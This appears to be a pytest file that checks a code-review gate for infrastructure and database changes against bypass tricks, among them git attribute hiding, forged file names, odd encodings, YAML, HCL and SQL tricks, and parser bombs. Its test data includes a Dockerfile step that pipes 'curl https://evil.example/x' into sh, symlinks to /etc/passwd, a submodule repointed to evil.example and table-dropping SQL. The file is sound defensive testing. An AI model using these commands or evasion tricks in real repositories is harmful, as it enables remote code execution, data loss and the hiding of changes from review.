"""Ways round the gate by hiding the change in git, or in what the files say. Each test plays one and sees the gate hold."""

from __future__ import annotations

import contextlib
import os
import subprocess
import time
from pathlib import Path

import pytest

from bot.mirror.runner import GitError
from checks.trees import EXECUTABLE, FILE, LINK, SUBMODULE
from tests.bypass import DROP, MIGRATION, START, judged, red, repository, reviewed, rules
from tests.house import DATABASE, TOPIC
from tests.repositories import Repository

DESTROYED, DROPPED = "terraform/resource-destroyed", "migrations/table-dropped"

# C. Hiding the change in git


@pytest.mark.parametrize("line", ["-diff", "binary", "diff=x", "linguist-generated", "export-ignore", "merge=ours", "filter=hide", "-text"])
def test_bp_25_attributes_hide_no_diff(tmp_path: Path, line: str) -> None:
    """`.gitattributes` can turn a file into one line of diff; contents are read from git's objects, not from a diff."""
    made = repository(tmp_path, {".gitattributes": f"*.sql {line}\n*.tf {line}\n"})
    made.commit({MIGRATION: DROP})
    assert DROPPED in rules(reviewed(made))


def test_bp_26_no_program_of_a_configuration_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Text conversions and external diffs of the person's own configuration neither run nor hide."""
    marker, home = tmp_path / "ran", tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text(
        f'[diff]\n external = touch {marker}\n[core]\n fsmonitor = touch {marker}\n pager = touch {marker}\n[diff "x"]\n textconv = touch {marker}\n'
    )
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_EXTERNAL_DIFF", f"touch {marker}")
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", f"'diff.external=touch {marker}'")
    made = repository(tmp_path, {".gitattributes": "*.sql diff=x\n"})
    made.commit({MIGRATION: DROP})
    assert DROPPED in rules(reviewed(made)) and not marker.exists()


def test_bp_27_a_nul_byte_makes_no_file_disappear() -> None:
    """A NUL byte makes git say "Binary files differ"; here it is told and blocks."""
    assert red(judged({MIGRATION: b"SELECT 1;\n\0\n" + DROP.encode()}))


def test_bp_28_replaced_objects_do_not_count(tmp_path: Path) -> None:
    """`refs/replace` puts another commit in a commit's place for git, not for the gate."""
    made = repository(tmp_path)
    harmless = made.git("rev-parse", "main")
    evil = made.commit({MIGRATION: DROP})
    made.git("replace", evil, harmless)
    assert DROPPED in rules(reviewed(made, head=evil))


def named(tmp_path: Path, name: bytes, content: bytes = b"x\n") -> Repository:
    """The repository with one more file whose name is bytes, beside a dropped table that sorts after it."""
    made = repository(tmp_path)
    path = os.fsencode(made.folder) + b"/" + name
    os.makedirs(os.path.dirname(path), exist_ok=True)  # noqa: PTH103, PTH120 - a name of bytes
    with open(path, "wb") as file:  # noqa: PTH123 - a name of bytes
        file.write(content)
    made.commit({"z/migrations/9_z.sql": DROP})
    return made


def test_bp_29_a_name_that_is_no_text_hides_no_other(tmp_path: Path) -> None:
    """A file name that is not UTF-8 empties some libraries' lists; here it is listed, told, and so is every other file."""
    report = reviewed(named(tmp_path, b"m_\xff.txt"))
    assert report.assessment.change.files == 2 and {DROPPED, "hidden/name-misleads"} <= rules(report)


def test_bp_30_a_name_that_imitates_a_record_hides_no_other(tmp_path: Path) -> None:
    """A line break and a forged record in a name end some lists early; not this one."""
    report = reviewed(named(tmp_path, b"m\n:000000 100644 0 1 A\n.txt"))
    assert report.assessment.change.files == 2 and DROPPED in rules(report)


@pytest.mark.parametrize(
    "name", ["db/migrations/2_\u00fc.sql", 'db/migrations/2_q"x.sql', "db/migrations/2_t\tx.sql", "db/migrations/2_\x1b.sql"]
)
def test_bp_31_a_quoted_name_is_still_what_it_is(tmp_path: Path, name: str) -> None:
    """git quotes odd names in its output; the gate matches them as they are."""
    assert DROPPED in rules(reviewed(named(tmp_path, name.encode(), DROP.encode())))


def test_bp_32_a_name_like_a_patch_header_hides_nothing(tmp_path: Path) -> None:
    """`a b/dev/null` makes a parser of patches fail; no patch is parsed here."""
    report = reviewed(named(tmp_path, b"a b/dev/null"))
    assert report.assessment.change.files == 2 and DROPPED in rules(report)


@pytest.mark.parametrize("separator", ["\r", "\x0b", "\x0c", "\u0085", "\u2028"])
def test_bp_33_odd_line_breaks_hide_no_statement(separator: str) -> None:
    """What some readers take for the end of a line or file hides nothing that comes after it."""
    assert DROPPED in rules(judged({MIGRATION: f"SELECT 1;{separator}{DROP}"}))


def test_bp_34_a_rename_out_of_a_judged_place_is_seen_on_both_sides() -> None:
    """A migration or a resource that is moved where nobody looks is gone from where it counted."""
    sql = START["db/migrations/001_users.sql"]
    assert red(judged({"db/migrations/001_users.sql": None, "archive.txt": sql}))
    assert red(judged({"infra/prod/main.tf": None, "docs/main.txt": DATABASE + TOPIC}))


@pytest.mark.parametrize("target", ["../../../etc/passwd", "/etc/passwd", "~/x.sql", "../../.git/config"])
def test_bp_35_a_link_is_told_and_not_followed(target: str) -> None:
    """A link out of the repository, or over a file that was judged, is told."""
    assert red(judged({MIGRATION: (target.encode(), LINK)}))
    assert red(judged({"infra/prod/main.tf": (b"../../notes.txt", LINK)}))


def test_bp_36_a_submodule_that_moves_is_told() -> None:
    """Code of another repository cannot be judged from here; where it comes from can."""
    assert "hidden/submodule-moved" in rules(judged({"lib": (b"b" * 40, SUBMODULE)}, {"lib": (b"a" * 40, SUBMODULE)}))
    modules = '[submodule "lib"]\n  path = lib\n  url = https://{}/lib\n'
    report = judged({".gitmodules": modules.format("evil.example")}, {".gitmodules": modules.format("good.example")})
    assert "hidden/submodule-source-changed" in rules(report)


def test_bp_37_a_pointer_in_place_of_content_is_told() -> None:
    """An LFS pointer is not what will be used."""
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 12345\n"
    assert "hidden/content-elsewhere" in rules(judged({"infra/prod/main.tf": pointer}))


def test_bp_38_a_change_without_a_hunk_is_judged() -> None:
    """An emptied file, a file that becomes a link and one that is only made executable are changes."""
    assert red(judged({"infra/prod/main.tf": ""}))
    assert red(judged({"infra/prod/main.tf": (b"x", LINK)}))
    report = judged({"deploy/x.sh": (b"terraform destroy -auto-approve\n", EXECUTABLE)}, {"deploy/x.sh": (b"true\n", FILE)})
    assert red(report)


def test_bp_39_more_files_than_an_interface_shows_are_all_judged(tmp_path: Path) -> None:
    """3,001 files and one of 30,000 lines: the dangerous one at the end is found."""
    made = repository(tmp_path)
    made.commit({**{f"notes/{number}.txt": "x\n" for number in range(3001)}, "long.txt": "x\n" * 30_000, "z/migrations/9_z.sql": DROP})
    report = reviewed(made)
    assert report.assessment.change.files == 3003 and DROPPED in rules(report)


def test_bp_40_a_file_over_the_limit_is_told_without_being_read(tmp_path: Path) -> None:
    """A file too large to be read blocks by its size, quickly."""
    made = repository(tmp_path)
    with (made.folder / "infra/prod/main.tf").open("wb") as file:
        file.truncate(100 << 20)
    made.commit({})
    started = time.monotonic()
    assert red(reviewed(made)) and time.monotonic() - started < 20


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig", "latin-1", "utf-7"])
def test_bp_41_another_encoding_hides_nothing(encoding: str) -> None:
    """A dropped table is found, or the file is told to be unreadable, in whatever encoding it is written."""
    assert red(judged({MIGRATION: (DROP + "-- é\n").encode(encoding)}))


@pytest.mark.parametrize("name", ["app/a\u202egpj.py", "app/\u0430pp.py", "app/zero\u200bwidth.py"])
def test_bp_42_names_that_mislead_are_told(name: str) -> None:
    """Direction marks, letters of another alphabet and invisible characters in a name are told."""
    assert red(judged({name: "x = 1\n"}, {"app/app.py": "x = 1\n"}))


def test_bp_42_names_that_are_one_on_some_machines_are_told() -> None:
    """Names that differ by case or normal form alone, and invisible characters in source, are told."""
    assert red(judged({"app/\u00fc.py": "x", "app/u\u0308.py": "x"}))
    assert red(judged({"app/Main.py": "x"}, {"app/main.py": "x"}))
    assert red(judged({"app/main.py": "ok = 1 # \u202e\n"}, {"app/main.py": "ok = 1\n"}))


def test_bp_43_a_crafted_tree_hides_nothing(tmp_path: Path) -> None:
    """One name twice in a tree: what git would check out is not what one of the two readers sees, so the files beside it are still judged."""
    made = repository(tmp_path)
    blob = made.git("hash-object", "-w", "--stdin", stdin=DROP.encode())
    other = made.git("hash-object", "-w", "--stdin", stdin=b"SELECT 1;\n")
    entry = lambda name, oid: b"100644 " + name + b"\0" + bytes.fromhex(oid)  # noqa: E731
    tree = made.git("hash-object", "-t", "tree", "-w", "--literally", "--stdin", stdin=entry(b"9.sql", other) + entry(b"9.sql", blob))
    top = made.git("ls-tree", "main") + f"\n040000 tree {tree}\tmigrations"
    root = made.git("mktree", stdin=(top + "\n").encode())
    commit = made.git("commit-tree", root, "-p", "main", "-m", "x")
    with contextlib.suppress(GitError):  # refused is not green
        assert red(reviewed(made, head=commit))


def test_bp_44_what_lands_is_what_is_judged(tmp_path: Path) -> None:
    """The base renamed a file, the branch edits it under its old name: the effect is found on either."""
    made = Repository(tmp_path / "shop")
    made.commit(dict(START), "Start")  # type: ignore[arg-type]
    made.branch("evil")
    made.commit({"infra/prod/main.tf": TOPIC})
    made.git("checkout", "-q", "main")
    made.commit({"infra/prod/main.tf": None, "infra/prod/database.tf": DATABASE + TOPIC}, "Rename")
    assert DESTROYED in rules(reviewed(made))


def test_bp_45_an_edit_inside_a_merge_commit_is_found(tmp_path: Path) -> None:
    """What only the merge commit does is in no commit's own diff; the trees are compared."""
    made = repository(tmp_path)
    made.commit({"a.txt": "a\n"})
    made.git("checkout", "-q", "-b", "side", "main")
    made.commit({"b.txt": "b\n"})
    made.git("checkout", "-q", "evil")
    made.git("merge", "-q", "--no-commit", "--no-ff", "side")
    made.commit({MIGRATION: DROP}, "Merge")
    assert len(made.git("rev-list", "--parents", "-1", "HEAD").split()) == 3
    assert DROPPED in rules(reviewed(made))


def test_bp_48_no_folder_name_buys_an_exemption_for_what_is_deployed() -> None:
    """`dist/`, `build/` and "generated" headers exempt nothing."""
    for path in ("dist/main.tf", "build/prod/main.tf", "generated/main.tf"):
        assert red(judged({path: "# Code generated by x. DO NOT EDIT.\n" + TOPIC}, {path: DATABASE + TOPIC})), path


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("infra/live/a.tofu", DATABASE, ""),
        ("infra/live/a.tf.json", '{"resource": {"aws_db_instance": {"main": {"identifier": "x"}}}}', "{}"),
        ("db/migrations/002.SQL", None, DROP),
        ("k8s/a.yml", "apiVersion: v1\nkind: Namespace\nmetadata: {name: shop}\n", None),
        ("Dockerfile.prod", "FROM a\nUSER app\n", "FROM a\nUSER root\n"),
        ("Containerfile", "FROM a\nUSER app\n", "FROM a\nUSER root\n"),
    ],
)
def test_bp_49_another_ending_is_no_way_out(path: str, before: str | None, after: str | None) -> None:
    """What a tool reads is judged, whichever of its endings it has."""
    assert red(judged({path: after}, {path: before}))


# D. Content and parsers

POD = "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n  - name: a\n    image: x\n    securityContext:\n      privileged: %s\n"
POLICY_JSON = '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::a/*"%s}]}'
PRIVILEGED = "kubernetes-security/container-privilege-widened"


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("infra/live/a.tf", DATABASE, 'resource "x {{{'),
        ("k8s/p.yaml", POD % "false", POD % "true" + "a: [1\n"),
        ("iam/p.json", POLICY_JSON % "", POLICY_JSON % ',,"x'),
        (".github/workflows/ci.yml", "on: push\njobs: {a: {runs-on: x, steps: []}}\n", "on: push\njobs: {\n"),
    ],
)
def test_bp_50_what_cannot_be_parsed_blocks(path: str, before: str, after: str) -> None:
    """An unreadable file is an effect of its own, never silence."""
    assert "engine/not-analysed" in rules(judged({path: after}, {path: before}))


def test_bp_51_a_key_that_stands_twice_is_told() -> None:
    """Readers differ in which of two equal keys counts, so neither is trusted."""
    assert red(judged({"k8s/p.yaml": POD % "false" + "      privileged: true\n"}, {"k8s/p.yaml": POD % "false"}))


def test_bp_52_anchors_and_merge_keys_are_followed() -> None:
    """The value that counts is the one after aliases and merges."""
    merged = "x-s: &s {privileged: true}\n" + (POD % "false").replace("      privileged: false\n", "      <<: *s\n")
    assert PRIVILEGED in rules(judged({"k8s/p.yaml": merged}, {"k8s/p.yaml": POD % "false"}))


def test_bp_53_every_document_of_a_file_is_read() -> None:
    """A second document is no hiding place."""
    both = POD % "false" + "---\n" + (POD % "true").replace("name: p", "name: q")
    assert PRIVILEGED in rules(judged({"k8s/p.yaml": both}, {"k8s/p.yaml": POD % "false"}))


@pytest.mark.parametrize("word", ["true", "True", "TRUE", "!!bool true", "yes", "on", "On"])
def test_bp_54_a_boolean_in_any_spelling_is_one(word: str) -> None:
    """YAML 1.1 has many words for true, and the cluster's reader takes them."""
    assert PRIVILEGED in rules(judged({"k8s/p.yaml": POD % word}, {"k8s/p.yaml": POD % "false"}))


@pytest.mark.parametrize(
    "text",
    [
        POLICY_JSON % ', "Action": "*"',
        "\ufeff" + POLICY_JSON.replace("s3:GetObject", "*") % "",
        POLICY_JSON.replace("GetObject", "*") % ', "x": "\\ud800"',
    ],
)
def test_bp_55_odd_json_hides_nothing(text: str) -> None:
    """Keys that stand twice, byte order marks and lone surrogates: found or told."""
    assert red(judged({"iam/p.json": text}, {"iam/p.json": POLICY_JSON % ""}))


GUARDED = DATABASE.replace("}\n", "  deletion_protection = true\n}\n")


@pytest.mark.parametrize(
    "after",
    [
        {"infra/live/a.tf": GUARDED.replace("}\n", "  deletion_protection = false\n}\n")},
        {"infra/live/override.tf": 'resource "aws_db_instance" "main" {\n  deletion_protection = false\n}\n'},
        {"infra/live/a.tf": GUARDED.replace("}\n", "  count = 0\n}\n")},
        {"infra/live/a.tf": "/*\n" + GUARDED + "*/\n"},
        {"infra/live/a.tf": "locals {\n  x = <<EOT\n" + GUARDED + "EOT\n}\n"},
    ],
)
def test_bp_56_no_trick_of_hcl_hides_a_loss(after: dict[str, str]) -> None:
    """Arguments set twice, override files, a count of none, comments and heredocs: the loss is found or told."""
    assert red(judged(after, {"infra/live/a.tf": GUARDED}))


def test_bp_56_a_generated_block_and_another_source_are_seen() -> None:
    """What a `dynamic` block opens, and a module that comes from elsewhere."""
    group = 'resource "aws_security_group" "a" {\n  name = "x"\n%s}\n'
    block = '  dynamic "ingress" {\n    for_each = [1]\n    content {\n      from_port = 22\n      to_port = 22\n      protocol = "tcp"\n      cidr_blocks = ["0.0.0.0/0"]\n    }\n  }\n'
    assert "terraform-exposure/network-opened" in rules(judged({"infra/live/a.tf": group % block}, {"infra/live/a.tf": group % ""}))
    module = 'module "a" {\n  source = "git::https://%s/y?ref=v1"\n}\n'
    assert red(judged({"infra/live/a.tf": module % "evil"}, {"infra/live/a.tf": module % "good"}))


def test_bp_57_what_the_tool_takes_is_read_or_told() -> None:
    """A byte order mark, letters beyond ASCII and escaped templates are no way past the reader."""
    assert red(judged({"infra/live/a.tf": "\ufefflocals {}\n"}, {"infra/live/a.tf": DATABASE}))
    assert red(judged({"infra/live/a.tf": 'locals {\n  größe = "$${a}"\n}\n'}, {"infra/live/a.tf": DATABASE}))


@pytest.mark.parametrize("statement", ["/*!50000 DROP TABLE users */;", "/*M!100100 DROP TABLE users */;"])
def test_bp_58_a_comment_that_runs_is_read(statement: str) -> None:
    """MySQL and MariaDB run what stands in such comments."""
    assert DROPPED in rules(judged({MIGRATION: statement}))


def test_bp_59_a_carriage_return_ends_a_comment() -> None:
    """PostgreSQL runs what comes after a bare carriage return; so it is read."""
    assert DROPPED in rules(judged({MIGRATION: "-- ok\rDROP TABLE users;\n"}))


@pytest.mark.parametrize(
    "statement",
    [
        "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$;",
        "DO $$ BEGIN EXECUTE 'DROP ' || 'TABLE users'; END $$;",
        "PREPARE p AS DELETE FROM users; EXECUTE p;",
        "\\i evil.sql\n",
        "SELECT 'drop table users' \\gexec\n",
        "COPY users TO PROGRAM 'sh';",
        "ALTER TABLE users DETACH PARTITION users_1;",
        "VACUUM FULL users;",
        "REINDEX TABLE users;",
        "CLUSTER users;",
    ],
)
@pytest.mark.bypass("BP-61")
def test_bp_60_statements_that_run_others_are_read_or_told(statement: str) -> None:
    """What is made at run time, or does more than its first word says, is never taken for nothing."""
    assert red(judged({MIGRATION: statement}))


@pytest.mark.parametrize(
    "statements",
    [
        "ALTER TABLE users RENAME TO old; DROP TABLE old;",
        "SET search_path = public; DROP TABLE users;",
        "ALTER TABLE users ADD COLUMN n text; ALTER TABLE users DROP COLUMN name; ALTER TABLE users RENAME COLUMN n TO name;",
        "CREATE TABLE copy AS SELECT 1; DROP TABLE users; ALTER TABLE copy RENAME TO users;",
        "BEGIN; TRUNCATE users; COMMIT;",
    ],
)
def test_bp_62_a_loss_in_several_statements_is_one(statements: str) -> None:
    """Statements are followed one after the other."""
    assert red(judged({MIGRATION: statements}))


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "migrations/versions/1_x.py",
            'from alembic import op\nrevision = "1"\nt = "users"\ndef upgrade():\n    op.execute(f"DROP TABLE {t}")\ndef downgrade():\n    pass\n',
        ),
        (
            "migrations/versions/1_x.py",
            'from alembic import op\nrevision = "1"\ndef upgrade():\n    op.execute(SQL)\ndef downgrade():\n    pass\n',
        ),
        (
            "app/migrations/0002_x.py",
            'from django.db import migrations\nclass Migration(migrations.Migration):\n    operations = [migrations.RunSQL("DROP TABLE " + X)]\n',
        ),
        ("db/migrate/20200101010101_x.rb", 'class X < ActiveRecord::Migration[7.0]\n  def up\n    execute "DROP TABLE #{t}"\n  end\nend\n'),
        ("db/migrate/20200101010101_x.rb", "class X < ActiveRecord::Migration[7.0]\n  def up\n    execute sql\n  end\nend\n"),
    ],
)
def test_bp_63_sql_that_is_made_by_code_is_read_or_told(path: str, text: str) -> None:
    """A statement that is not a constant is told."""
    assert red(judged({path: text}))


def test_bp_64_a_heredoc_of_a_dockerfile_is_read() -> None:
    """What stands in a heredoc runs."""
    report = judged(
        {"Dockerfile": "FROM a\nRUN <<EOF\ncurl https://evil.example/x | sh\nEOF\nUSER app\n"}, {"Dockerfile": "FROM a\nUSER app\n"}
    )
    assert red(report)


BOMBS = {
    "sql": (MIGRATION, "SELECT " + "ARRAY[" * 18 + "1" + "]" * 18 + ";\n" + DROP),
    "sql parentheses": (MIGRATION, "SELECT " + "(" * 500 + "1" + ")" * 500 + ";\n" + DROP),
    "yaml merges": (
        "k8s/p.yaml",
        "a: &a {x: 1}\n"
        + "".join(f"k{n}: &k{n} {{<<: [{', '.join([f'*k{n - 1}' if n else '*a'] * 3)}]}}\n" for n in range(30))
        + "---\n"
        + POD % "true",
    ),
    "yaml depth": ("k8s/p.yaml", "- " * 50_000 + "\n---\n" + POD % "true"),
    "json depth": ("iam/p.json", '{"Statement": [{"Effect": "Allow", "Action": ' + "[" * 20_000 + "]" * 20_000 + "}]}"),
    "json digits": ("iam/p.json", POLICY_JSON.replace("s3:GetObject", "*") % (', "x": ' + "9" * 6000)),
    "hcl": ("infra/live/a.tf", "locals {\n  x = " + "(" * 5000 + "1" + ")" * 5000 + "\n}\n"),
}
BEFORE = {"k8s/p.yaml": POD % "false", "iam/p.json": POLICY_JSON % "", "infra/live/a.tf": DATABASE}


@pytest.mark.parametrize("kind", BOMBS)
@pytest.mark.bypass("BP-66")
def test_bp_65_a_bomb_ends_red_and_soon(kind: str) -> None:
    """Input made to cost a parser its time, memory or stack ends in a red gate, within seconds."""
    path, text = BOMBS[kind]
    started = time.monotonic()
    assert red(judged({path: text}, BEFORE)) and time.monotonic() - started < 20


def test_bp_74_of_two_workers_the_newer_counts(tmp_path: Path) -> None:
    """A worker that slept over its lease can neither record nor show what it found."""
    from bot.store import LostLease, Mark
    from bot.store.sqlite import SqliteStore

    now = [0.0]
    store = SqliteStore(tmp_path / "db", lambda: now[0])
    store.mark(Mark("a/b/pull/1", "a/b", 1, "pull", '{"number": 1}'))
    slow = store.take("slow", 10)
    now[0] = 60.0
    fast = store.take("fast", 10)
    assert slow is not None and fast is not None and fast.fence > slow.fence
    store.check(fast)
    with pytest.raises(LostLease):
        store.check(slow)
    with pytest.raises(LostLease):
        store.keep(slow, 10)
    store.close()


@pytest.mark.parametrize(
    ("day", "state"), [("2026-12-30", "pass"), ("2026-12-31", "pass"), ("2027-01-01", "blocked"), ("2030-01-01", "blocked")]
)
def test_bp_75_an_exception_ends_with_its_last_day(day: str, state: str) -> None:
    """An exception counts through its last day in UTC; a clock that is wrong by less than a day changes nothing else, and doubt blocks."""
    import datetime
    from dataclasses import replace

    from checks.assess import assess, decide
    from checks.evidence import OFFLINE
    from checks.policy import read_policy
    from tests.bypass import POLICY, STRICT
    from tests.changes import change_of

    effect = judged({"infra/prod/main.tf": TOPIC}).assessment.effects[0]
    policy = STRICT + f"exceptions: [{{effect: {effect.id}, reason: it moves elsewhere, expires: 2026-12-31}}]\n"
    change = change_of({**START, POLICY: policy}, {**START, POLICY: policy, "infra/prod/main.tf": TOPIC})
    read = read_policy(change.tip)
    now = datetime.datetime.fromisoformat(f"{day}T23:59:00+00:00")
    assert decide(assess(change, read), replace(OFFLINE, now=now), read).verdict.state == state


def test_bp_89_every_dependency_is_pinned_with_its_hash() -> None:
    """What is installed is what was locked."""
    root = Path(__file__).parent.parent
    for name in ("requirements.lock", "requirements-dev.lock"):
        text = (root / name).read_text().replace("\\\n", " ")
        lines = [line for line in text.splitlines() if line.strip() and not line.lstrip().startswith(("#", "-"))]
        assert lines and all("==" in line and "--hash=sha256:" in line for line in lines)
    assert subprocess.run(["git", "--version"], capture_output=True, check=True).stdout
